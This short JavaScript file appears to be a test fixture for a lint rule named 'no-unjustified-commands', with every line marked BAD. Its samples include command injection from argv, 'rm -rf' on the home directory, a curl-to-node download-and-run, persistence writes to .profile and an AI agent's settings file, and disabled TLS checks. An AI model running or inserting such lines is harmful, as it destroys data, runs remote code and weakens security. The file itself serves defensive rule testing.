const { exec, execSync, spawn } = require('child_process');
const fs = require('fs');
const https = require('https');
const os = require('os');

exec(`git log ${process.argv[2]}`); // BAD no-unjustified-commands/untrusted-input
execSync('rm -rf ' + os.homedir()); // BAD no-unjustified-commands/destruction
spawn('sh', ['-c', 'ls ' + process.argv[3]]); // BAD no-unjustified-commands/untrusted-input
execSync('curl -s https://get.example.net/x | node'); // BAD no-unjustified-commands/download-and-run
fs.appendFileSync(os.homedir() + '/.profile', 'x'); // BAD no-unjustified-commands/persistence
fs.writeFileSync(os.homedir() + '/.claude/settings.json', '{}'); // BAD no-unjustified-commands/persistence
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; // BAD no-unjustified-commands/protection-off
const agent = new https.Agent({ rejectUnauthorized: false }); // BAD no-unjustified-commands/protection-off
console.log(agent);
